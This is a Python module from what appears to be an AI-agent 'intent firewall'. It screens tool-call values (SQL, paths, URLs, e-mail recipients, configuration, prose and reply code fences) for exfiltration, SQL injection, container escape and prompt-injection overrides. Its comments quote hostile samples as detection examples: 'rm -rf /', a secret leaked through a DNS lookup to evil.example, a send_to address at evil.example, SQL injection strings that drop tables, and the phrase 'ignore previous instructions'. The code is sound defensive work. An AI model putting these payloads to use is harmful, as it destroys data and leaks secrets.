"""A value that is not a command line: SQL, a path, a URL or host, configuration text, or
prose that may still hold a command (``please run `rm -rf /` now``).
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from aegis.intent_firewall.access import Scope, judge_path, judge_url
from aegis.intent_firewall.analysis import ShellJob, judge_shell, looks_like_command
from aegis.intent_firewall.catalogue import catalogue
from aegis.intent_firewall.contentrefs import listed_paths
from aegis.intent_firewall.globbing import has_glob
from aegis.intent_firewall.jsonedits import document_pointer
from aegis.intent_firewall.orders import prose_like
from aegis.intent_firewall.overrides import find_override
from aegis.intent_firewall.packagespecs import package_spec
from aegis.intent_firewall.paths import looks_like_path
from aegis.intent_firewall.readings import CONTENT_KEYS, FRAGMENT_KEYS, LOOKING_WORDS
from aegis.intent_firewall.rules import Hit
from aegis.intent_firewall.sql import MAX_SQL, SqlJudgement, looks_like_sql, read_sql
from aegis.intent_firewall.sqlcomments import comments_as_space, has_comment
from aegis.intent_firewall.sqlliterals import Carried
from aegis.intent_firewall.sqlreach import destinations
from aegis.intent_firewall.storage import storage_bucket, storage_scheme
from aegis.intent_firewall.text import canonical_text, mixed_script_words
from aegis.intent_firewall.textchecks import (
    config_escape,
    config_exec,
    sql_injection_shape,
    whole_sql_statement,
)
from aegis.intent_firewall.vocabulary import (
    ADDRESS_FIELD_KEYS,
    DELETE_WORDS,
    MAIL_WORDS,
    NETWORK_WORDS,
    PATH_KEYS,
    PERM_WORDS,
    SQL_KEYS,
    TREE_READ_WORDS,
    URL_KEYS,
    WRITE_KEYS,
    WRITE_WORDS,
)

__all__ = [
    "FILE_TEXT_KEYS",
    "URL_KEY_ENDINGS",
    "PlainValue",
    "code_hits",
    "judge_plain",
    "sql_code",
    "sql_reading",
    "writes_file_text",
]


@dataclass(frozen=True, slots=True)
class PlainValue:
    canonical: str
    text: str
    key: str
    #: Words of the action (and of the tool call around the value).
    words: frozenset[str]
    #: The request asks for a whole tree (``recursive: true``).
    recursive: bool = False
    #: The value read as SQL, when it is a SQL key's (see :func:`sql_reading`).
    sql: SqlJudgement | None = None
    #: The value comes from text the agent read (structure unpacked from the context), not
    #: from what it asks to do.
    read: bool = False
    #: A path named in a written file's structure, under a key no tool writes to: a
    #: reference this request reads (``contentrefs.py``).
    quoted: bool = False


def sql_reading(key: str, canonical: str, job: ShellJob) -> SqlJudgement | None:
    """A SQL key's value judged as SQL (charged to the request's parsing budget), ``None``
    when the key carries no SQL or the SQL is too long to read."""
    if key not in SQL_KEYS or len(canonical) > MAX_SQL or not looks_like_sql(canonical):
        return None
    parse = job.commands is None or job.commands.parse_sql(len(canonical))
    return read_sql(canonical, parse=parse)


def sql_code(sql: SqlJudgement | None, canonical: str, text: str) -> tuple[str, str]:
    """What the generic string checks read of a value: of parsed SQL its code, the data
    literals blanked (the SQL judgement is the authority on them); else the value."""
    if sql is None or sql.code is None:
        return canonical, text
    return sql.code, sql.code


#: Keys that name or describe a thing (``upload_image(name="logo.png")``): never a host,
#: but for the actions that look a name up (``dns_lookup(name="<secret>.evil.example")``).
_LABEL_KEYS = frozenset({"name", "title", "label", "caption", "alt", "description", "filename"})
_NAME_LOOKUP_WORDS = frozenset({"dns", "nslookup", "dig", "whois", "traceroute", "resolve"})
#: Keys naming the call an API tool makes (``conversations.history``, ``users.list``): a
#: dotted method name, not a host.
_CALL_NAME_KEYS = frozenset(
    {"method", "operation", "op", "function", "procedure", "rpc", "api_method", "call"}
)


#: Key endings that name a network destination (avatar_url, callbackUri, smtp_hostname).
URL_KEY_ENDINGS = ("url", "uri", "endpoint", "hostname", "host", "webhook")


#: A key that starts with a verb of sending and ends with whom it goes to (``send_to``,
#: ``deliverTo``, ``share_with``, ``notify_email``): its address is where the data goes.
_SENDING_KEY_STARTS = ("send", "deliver", "export", "share", "mail", "email", "notify", "forward",
                       "reply", "copy", "report", "dispatch", "push", "post", "destination",
                       "dest", "alert", "target", "receiver", "recipient")  # fmt: skip
_RECIPIENT_KEY_ENDS = ("to", "with", "cc", "bcc", "recipient", "recipients", "email", "emails",
                       "address", "addresses", "inbox", "user", "users")  # fmt: skip


def _recipient_key(key: str, value: str) -> bool:
    """``export_contacts {send_to: partner@evil.example}``: a sending key given an e-mail
    address (a path or a name under it is judged as such elsewhere)."""
    compact = key.casefold().replace("_", "").replace("-", "")
    address = mail_address(value)
    local, at, domain = address.partition("@")
    sending = compact.startswith(_SENDING_KEY_STARTS) and compact.endswith(_RECIPIENT_KEY_ENDS)
    return (sending or address != value) and bool(at and local and "." in domain)


def mail_address(value: str) -> str:
    """The address of ``Name <a@b.example>`` or ``mailto:a@b.example``; else ``value``."""
    text = value.strip()
    if text.casefold().startswith("mailto:"):
        return text[7:].partition("?")[0]
    if text.endswith(">") and "<" in text:
        return text[text.rindex("<") + 1 : -1].strip()
    return text if " " not in text else ""


def _file_name(key: str, canonical: str, words: frozenset[str]) -> bool:
    """``read_file {"name": ".env"}``: a bare name under a file action names a file."""
    return key == "name" and bool(words & _FILE_WORDS) and "." in canonical and " " not in canonical


_FILE_WORDS = frozenset({"file", "files", "fs", "path", "document", "attachment", "blob"})


def _comment_fragment(stripped: str) -> bool:
    """``// TODO``, ``/* header */``, and a directive with no space after the slashes
    (``//go:generate stringer``, ``//nolint``): the first word names no share below a host
    (``//etc/shadow`` does)."""
    if stripped.startswith(("// ", "/* ", "/** ")):
        return True
    first = stripped[2:].split(None, 1)[0] if stripped.startswith("//") else "/"
    return bool(first) and "/" not in first


def _one_path(key: str, canonical: str) -> bool:
    """A file's text of several lines is never one path, though it opens with a comment
    (``/* header */``, ``// Package main``): its lines are judged for what they are; nor is
    a comment an edit puts in or takes out (``old_str: // TODO``)."""
    stripped = canonical.strip()
    return looks_like_path(canonical) and not (
        (key in FILE_TEXT_KEYS and "\n" in stripped)
        or (key in FRAGMENT_KEYS and _comment_fragment(stripped))
    )


def _destination(value: PlainValue, scope: Scope, job: ShellJob) -> str | None:
    """Judge the value as the place it names; the text given :func:`judge_url`, if any (a
    caller about to judge the same URL again may leave it: see ``judge_plain``)."""
    canonical, text, key, words = value.canonical, value.text, value.key, value.words
    cwd = job.cwd
    stripped = canonical.strip()
    # an action name is a tool's name (github.create_pull_request, stripe.payouts.create),
    # never a host; a URL with a scheme written into one is still a destination
    tool_name = key == "<action>" and "://" not in stripped
    if storage_scheme(stripped):
        _storage_destination(value, stripped, scope)
    elif (key in _IMAGE_KEYS or key.endswith("_image")) and _image_registry(stripped):
        # registry.example/team/app:tag is pulled from registry.example
        registry = _image_registry(stripped)
        judge_url(scope, registry, text, cwd)
        return registry
    elif _host_and_port(stripped) and not tool_name:
        # evil.example:443 under any key is a destination, whatever the key is called
        judge_url(scope, stripped, text, cwd)
        return stripped
    elif (
        (key in URL_KEYS or key.endswith(URL_KEY_ENDINGS) or _recipient_key(key, stripped))
        and not looks_like_path(canonical)
        and not _file_operand(value)
    ):
        if not _address_as_data(key, stripped, words):
            judge_url(scope, stripped, text, cwd)  # stripped is canonical.strip()
            return stripped
    elif document_pointer(key, canonical, words):
        pass  # json_edit {pointer: /scripts}: a place in the document (jsonedits.py)
    elif key in CONTENT_KEYS and "\n" in stripped and key not in PATH_KEYS:
        pass  # a file's text of several lines (a logrotate stanza, a cell) names no one path
    elif key in _CELL_TEXT_KEYS and "\n" in stripped and words & _CELL_WORDS:
        pass  # edit_notebook {source: "import x\nprint(x)"}: a cell's lines, not a path
    elif key in PATH_KEYS or _one_path(key, canonical) or _file_name(key, canonical, words):
        budget = job.commands
        if budget is not None and not budget.classify_path():
            scope.hit("too-large", f"more than {budget.paths_limit} paths in one request")
            return None
        role = _path_role(value)
        path = canonical.strip()
        for one in listed_paths(path) if value.quoted else (path,):
            judge_path(scope, role, one, text, cwd, glob=has_glob(one))
    elif (
        not tool_name
        and words & NETWORK_WORDS
        and "." in canonical
        and " " not in canonical.strip()
        and (key not in _LABEL_KEYS or bool(words & _NAME_LOOKUP_WORDS))
        and key not in _CALL_NAME_KEYS  # slack_api {method: conversations.history}
        and not package_spec(key, canonical)  # pip_download {requirement: numpy==1.26.4}
    ):
        judge_url(scope, stripped, text, cwd)
        return stripped
    return None


#: Action words that only check or look up an address (``validate_email``): nothing is sent.
_CHECKING_WORDS = frozenset(
    {"validate", "validation", "check", "parse", "normalize", "normalise", "format",
     "lookup", "find", "search", "get", "list", "count", "exists", "is", "mask", "hash"}
)  # fmt: skip


_DRAFT_WORDS = frozenset({"draft", "drafts"})
_EXPORT_WORDS = frozenset({"export", "exports", "dump", "bulk", "extract", "backup", "archive"})
_SENDING_WORDS = frozenset({"send", "sends", "submit", "dispatch", "deliver"})


def _address_as_data(key: str, value: str, words: frozenset[str]) -> bool:
    """``{email: qa+1@example.com}`` in a record sent to the app under test: an account's
    address is a field of the record, not where the request goes, unless the action sends
    mail or messages (``send_email``, ``invite_user``). Only a bare address counts: a URL,
    a list of several, or ``host:port`` is judged as a destination."""
    drafting = bool(words & _DRAFT_WORDS) and not words & _SENDING_WORDS
    if not drafting and (
        key not in ADDRESS_FIELD_KEYS
        or (words & MAIL_WORDS and not words & _CHECKING_WORDS)
        or words & _EXPORT_WORDS  # an export's address is where the data is sent
    ):
        return False  # (a draft is written, not sent: its recipients are a field of it)
    local, at, domain = value.partition("@")
    return (
        bool(at and local and domain)
        and "@" not in domain
        and not any(mark in value for mark in ":/\\,;<> ")
    )


def _file_operand(value: PlainValue) -> bool:
    """A file tool's destination (``move_file {destination: b.txt}``): a name, not a host,
    unless it is written as a URL, an address or ``host:path`` (``remote_copy`` sends)."""
    text, words = value.canonical, value.words
    local = bool(words & _LOCAL_MOVE_WORDS) or bool(words & _COPY_WORDS and words & _FILE_WORDS)
    return local and not any(mark in text for mark in (":", "@"))


_LOCAL_MOVE_WORDS = frozenset({"move", "mv", "rename", "relocate"})
_FILE_WORDS = frozenset({"file", "files", "dir", "directory", "folder", "path", "paths"})


#: Action words that only look at or fetch from a bucket.
_STORAGE_READ_WORDS = LOOKING_WORDS | frozenset(
    {"download", "fetch", "ls", "head", "stat", "cat", "pull", "sync_from", "objects", "buckets"}
)


def _storage_destination(value: PlainValue, uri: str, scope: Scope) -> None:
    """A bucket named where the action only lists or downloads reaches nothing of the
    caller's choosing; named as a destination (an upload, a copy, a share, or an action
    whose words say nothing) it is storage outside the policy (fail closed)."""
    reads = value.words & _STORAGE_READ_WORDS and not value.words & (WRITE_WORDS | {"upload"})
    if reads and value.key not in WRITE_KEYS:
        return
    scope.hit(
        "unknown-network-destination",
        f"cloud storage bucket {storage_bucket(uri)!r} ({value.text[:80]}) outside the policy",
    )


_TREE_ROLES = {"read": "read-tree", "delete": "delete-tree", "write": "write-tree"}
_IMAGE_KEYS = frozenset(
    {"image", "images", "container_image", "docker_image", "base_image", "image_name", "imagename",
     "image_ref", "imageref", "image_uri", "imageuri", "image_url", "imageurl"}
)  # fmt: skip
#: Name endings that make ``name.ext:N`` a file and line (``app.py:42``), not a host and port.
_FILE_SUFFIXES = frozenset(
    {"py", "js", "ts", "tsx", "jsx", "rs", "go", "c", "h", "cc", "cpp", "hpp", "java", "kt",
     "rb", "php", "cs", "swift", "md", "txt", "rst", "json", "yaml", "yml", "toml", "ini",
     "cfg", "log", "sh", "html", "css", "scss", "vue", "sql", "lock", "xml", "csv", "ex",
     "exs", "erl", "hs", "ml", "scala", "lua", "pl", "r", "jl", "dart", "m", "mm", "proto"}
)  # fmt: skip


def _image_registry(image: str) -> str:
    """The registry host of an image reference (none for ``python:3.12`` or ``org/app``)."""
    first, slash, _ = image.partition("/")
    if slash and " " not in image and ("." in first or ":" in first or first == "localhost"):
        return first.partition(":")[0]
    return ""


def _host_and_port(value: str) -> bool:
    """``name.tld:PORT`` or ``a.b.c.d:PORT`` and nothing else: a destination and its port."""
    host, colon, port = value.rpartition(":")
    if not colon or not port.isdigit() or len(port) > 5 or not 0 < int(port) < 65536:
        return False
    if "." not in host or not all(c.isalnum() or c in ".-" for c in host):
        return False
    labels = host.split(".")
    if host.replace(".", "").isdigit():
        return len(labels) == 4
    last = labels[-1]
    return all(labels) and last.isalpha() and len(last) >= 2 and last not in _FILE_SUFFIXES


#: Keys that hold a notebook cell's text in notebook tools (elsewhere ``source`` is a path),
#: and the words of such tools.
_CELL_TEXT_KEYS = frozenset({"source", "cell_source", "new_source"})
_CELL_WORDS = frozenset({"notebook", "cell", "ipynb", "jupyter", "nb"})


#: A copy tool's source keys, read rather than written (the destination is the write).
_SOURCE_KEYS = frozenset({"source", "src", "from", "frompath", "sourcepath", "srcpath"})
_COPY_WORDS = frozenset({"copy", "cp", "duplicate"})
_MOVE_WORDS = frozenset({"move", "mv", "rename"})


_GONE_WORDS = DELETE_WORDS | _MOVE_WORDS


def _path_role(value: PlainValue) -> str:
    """What the action does to a path: deletes, changes the owner or mode of, writes, searches
    every file below (a grep tool) or reads it; a whole tree when asked to recurse."""
    key, words = value.key, value.words
    role = "read"
    compact = key.replace("_", "").replace("-", "").casefold()
    if value.quoted:
        role = "read"  # settings {"go.goroot": "/usr/local/go"}: named, not written
    elif compact in _SOURCE_KEYS and words & _COPY_WORDS and not words & _GONE_WORDS:
        role = "read"  # copy_file {source: /etc/hosts}: the source is read, not written
    elif words & DELETE_WORDS and key in PATH_KEYS:
        role = "delete"
    elif words & PERM_WORDS and key in PATH_KEYS:
        return "perm"  # on a system path it is refused whether recursive or not
    elif words & WRITE_WORDS or key in WRITE_KEYS:
        role = "write"
    elif words & TREE_READ_WORDS and key in PATH_KEYS:
        return "read-tree"
    return _TREE_ROLES[role] if value.recursive else role


#: Keys of a file's text in write and edit tools (``write_file {content}``, ``edit_file
#: {old_string, new_string}``); a message's body or a form's data stays a field.
_FILE_TEXT_KEYS = frozenset(
    {"content", "contents", "markdown", "html", "new_string", "old_string", "new_str",
     "old_str", "replacement", "patch", "file_text", "source", "code"}
)  # fmt: skip


#: Keys of a file's text, in write tools and edit tools alike.
FILE_TEXT_KEYS = _FILE_TEXT_KEYS | CONTENT_KEYS


def _file_text(value: PlainValue) -> bool:
    """Lines of a file being written (code, configuration, a document): quotes followed by a
    comment (``NAME = 'app'  # why``) and ``'a' or 'b'`` are how programs are written, not
    a value spliced into a query. An injection payload is one field, one line."""
    return value.key in _FILE_TEXT_KEYS and "\n" in value.text.strip()


def code_hits(hits: list[Hit], text: str, code: str) -> list[Hit]:
    """``hits`` on a SQL value less the look-alike words that lie only in its data literals
    (a name in a table is data; one in the statement's code still counts)."""
    if not any(hit.rule == "mixed-script" for hit in hits):
        return hits
    kept = {repr(word) for word in mixed_script_words(text) if canonical_text(word) in code}
    return [hit for hit in hits if hit.rule != "mixed-script" or hit.evidence in kept]


def judge_plain(
    value: PlainValue,
    scope: Scope,
    job: ShellJob,
    max_shell: int,
    *,
    documentation: bool,
    prose_commands: bool = True,
    injection: bool = True,
    instructions: bool = False,
    data_file: bool = False,
) -> str | None:
    """Every finding on a value that is not a command line; the text judged as a URL where
    the value names a destination (a caller need not judge that same text again: what
    ``judge_url`` finds depends on nothing else but for ``file:`` paths). In ``documentation`` (text
    written to a ``.md`` or ``docs/`` file) code is an example, not a command. Without
    ``injection`` the text is part of one already read for injection (a piece of the
    context unpacked from its YAML), so that reading is not repeated. The text of a
    ``data_file`` (a document or data file written, ``filekinds.py``) is neither a query
    field nor a place: its injection strings and paths are data, never read as such."""
    canonical, text = value.canonical, value.text
    if value.key in SQL_KEYS and looks_like_sql(canonical):
        sql = value.sql or sql_reading(value.key, canonical, job)
        if sql is None:
            scope.hit("too-large", f"SQL of {len(canonical)} characters")
        else:
            scope.hits.extend(sql.hits)
            _carried(sql.carried, scope, job, max_shell)
            canonical, text = sql_code(sql, canonical, text)
            value = replace(value, canonical=canonical, text=text)
            # parsed SQL is not a command line: its code is judged as SQL above
            prose_commands = prose_commands and sql.code is None
    elif not data_file:
        _injection_shapes(value, scope)
    judged = _destination(value, scope, job) if not data_file else None
    if not documentation and any(mark in canonical for mark in (":", "=")):
        if config_exec(canonical) is not None:
            scope.hit("interpreter-code", f"configuration that runs commands: {text[:80]!r}")
        if config_escape(canonical) is not None:
            scope.hit("container-escape", f"configuration reaching the host: {text[:80]!r}")
    if (
        not documentation
        and prose_commands
        and len(canonical) <= max_shell
        and any(c in canonical for c in " \t\n;|&`$<>")
        and looks_like_command(canonical)
        and not prose_like(text)  # sentences: only the commands they order (orders.py)
    ):
        scope.prose = True
        judge_shell(canonical_text(text, fold=False), scope, job)
        scope.prose = False
    _reader_text(
        value, scope, job, max_shell, (documentation, instructions, prose_commands, injection)
    )
    if not documentation and value.key in _REPLY_KEYS and "```" in canonical:
        for block in _shell_fences(canonical_text(text, fold=False), max_shell):
            judge_shell(block, scope, job)
    return judged


#: Action words of tools that write or edit files: their text is a file's, not a message.
_FILE_TOOL_WORDS = WRITE_WORDS | frozenset({"file", "files", "fs", "edit", "editor", "patch"})


def writes_file_text(key: str, words: frozenset[str], text: str) -> bool:
    """Lines of a file a write or edit tool is given (a prompt template in ``src/prompts.py``,
    a page on prompt injection quoting "ignore previous instructions"): the agent's own
    writing, not a message to it. An injection planted in a field is one line."""
    return (
        key in FILE_TEXT_KEYS  # (_FILE_TEXT_KEYS | CONTENT_KEYS, built once)
        and bool(words & _FILE_TOOL_WORDS)
        and "\n" in text.strip()
    )


def _free_text(
    value: PlainValue,
    scope: Scope,
    job: ShellJob,
    max_shell: int,
    *,
    prose_commands: bool,
    scan: bool,
) -> None:
    """Overrides, forged turns, tampering and poisoning in text read as a message. In a
    file being written only what is not quoted counts, and commands stay the file's."""
    from aegis.intent_firewall.injection import OUTBOUND_WORDS, judge_free_text, without_quoted

    if (value.words & OUTBOUND_WORDS and value.key != "<context>") or value.key == "<json>":
        # a message to a person quotes commands for that person (what the agent read, its
        # context, is judged as for any action); JSON text is data whose strings are
        # judged one by one (a command line among them as a command line)
        prose_commands = False
    if writes_file_text(value.key, value.words, value.text):
        bare = without_quoted(value.text)
        if bare != value.text:
            value = PlainValue(canonical_text(bare), bare, value.key, value.words, value.recursive)
        prose_commands = False
    _override(value, scope, job, max_shell)
    if scan and len(value.canonical) <= max_shell * 4:
        # a tool's description is how the agent is told to use it: every command counts
        describes_tool = value.key == "description" and bool(value.words & _TOOL_WORDS)
        judge_free_text(
            value.canonical,
            value.text,
            scope,
            job,
            commands=prose_commands,
            orders_only=not describes_tool,
            # the context is what the agent read; a parameter is what it is asked to do
            undecided=value.key != "<context>",
        )


def _reader_text(
    value: PlainValue,
    scope: Scope,
    job: ShellJob,
    max_shell: int,
    how: tuple[bool, bool, bool, bool],
) -> None:
    """What the value says to whoever reads it. ``how`` is (documentation, instructions,
    prose_commands, injection): a coding agent's instruction file (``AGENTS.md``) is
    orders to it, its commands judged when it orders them; a document or data file only
    for text addressed to an AI reader; anything else as a message."""
    from aegis.intent_firewall.injection import judge_free_text

    documentation, instructions, prose_commands, injection = how
    if instructions:
        _override(value, scope, job, max_shell)
        # what no word disowns, an instruction file orders (a comment hidden from view too)
        judge_free_text(value.canonical, value.text, scope, job, commands=True, undecided=True)
    elif not documentation:
        _free_text(value, scope, job, max_shell, prose_commands=prose_commands, scan=injection)
    elif injection:
        _addressed_to_a_reader(value, scope, job)


#: What a document or data file is judged for: text addressed to an AI that reads it.
_READER_RULES = frozenset({"fake-turn-marker", "agent-directed-order"})


def _addressed_to_a_reader(value: PlainValue, scope: Scope, job: ShellJob) -> None:
    """A document's or data file's own words (what it quotes left out) that address an AI
    reading it: forged chat turns, orders to an agent or an assistant. Its commands, URLs
    and hosts are what the document talks about, not what the request does."""
    from aegis.intent_firewall.injection import injection_findings, without_quoted

    bare = without_quoted(value.text)
    for rule, evidence in injection_findings(canonical_text(bare), home=scope.home, cwd=job.cwd):
        if rule in _READER_RULES:
            scope.hit(rule, evidence)


#: Action words of requests that register or describe a tool.
_TOOL_WORDS = frozenset({"tool", "tools", "mcp", "function", "functions", "plugin", "server"})


def _carried(carried: tuple[Carried, ...], scope: Scope, job: ShellJob, max_shell: int) -> None:
    """The literals parsed SQL hands to the server's operating system: a command line is
    judged as one, a file read or written as that path, a URL or host another acting
    function reaches against the allowed hosts (the SQL's own findings stand)."""
    for item in carried:
        if item.role == "command" and len(item.text) <= max_shell:
            judge_shell(canonical_text(item.text, fold=False), scope, job)
        elif item.role in ("read", "write") and looks_like_path(item.text.strip()):
            path = item.text.strip()
            judge_path(scope, item.role, path, item.text, job.cwd, glob=has_glob(path))
        elif item.role == "other":
            for destination in destinations(item.text):
                judge_url(scope, destination, item.text, job.cwd)


def _injection_shapes(value: PlainValue, scope: Scope) -> None:
    """SQL-injection shapes in a plain field, also read with SQL comments as the spaces a
    server reads them as (``x';/**/DROP/**/TABLE/**/users;--``). The context is what the
    agent read (a ticket quoting ``' OR 1=1 --``), no value any query receives: not judged."""
    if value.key == "<context>" or value.read:
        return
    canonical, text = value.canonical, value.text
    readings = [canonical]
    if has_comment(canonical) and len(canonical) <= MAX_SQL:
        readings.append(comments_as_space(canonical, quotes=False))
    for reading in readings:
        if not _file_text(value) and sql_injection_shape(reading) is not None:
            scope.hit("sql-injection-shape", repr(text[:100]))
            return
        if value.key not in CONTENT_KEYS and whole_sql_statement(reading) is not None:
            scope.hit("sql-injection-shape", f"a whole SQL statement: {text[:100]!r}")
            return


def _override(value: PlainValue, scope: Scope, job: ShellJob, max_shell: int) -> None:
    """A cue that cancels the task followed by an order to act (overrides.py): review, and
    a command written in prose after it is judged as the command it is."""
    found = find_override(value.canonical, value.text, _is_program)
    if found is None:
        return
    if found.certain:
        scope.hit(
            "instruction-override",
            f"{found.cue!r} then {found.action!r} in {value.text[:80]!r}",
        )
    if found.command and len(found.command) <= max_shell:
        judge_shell(canonical_text(found.command, fold=False), scope, job)


def _is_program(word: str) -> bool:
    return catalogue().lookup(word.rsplit("/", 1)[-1]) is not None


_SHELL_FENCES = frozenset({"", "bash", "sh", "shell", "zsh", "console", "terminal", "sh-session"})
#: Keys holding a model's own reply, which a harness may scan for fenced commands to run (a
#: message to a person may quote commands for that person to run).
_REPLY_KEYS = frozenset({"reply", "response", "completion", "answer", "assistant", "output_text"})


def _shell_fences(text: str, max_shell: int) -> list[str]:
    """Shell code in a reply's fenced blocks (```bash … ```), prompts (``$ ``) removed: a
    harness that runs the agent's fenced commands runs these."""
    blocks = []
    for code in text.split("```")[1:16:2]:
        language, _, body = code.partition("\n")
        if language.strip().lower() in _SHELL_FENCES and len(body) <= max_shell:
            lines = (line.strip().removeprefix("$ ") for line in body.splitlines())
            blocks.append("\n".join(lines))
    return blocks
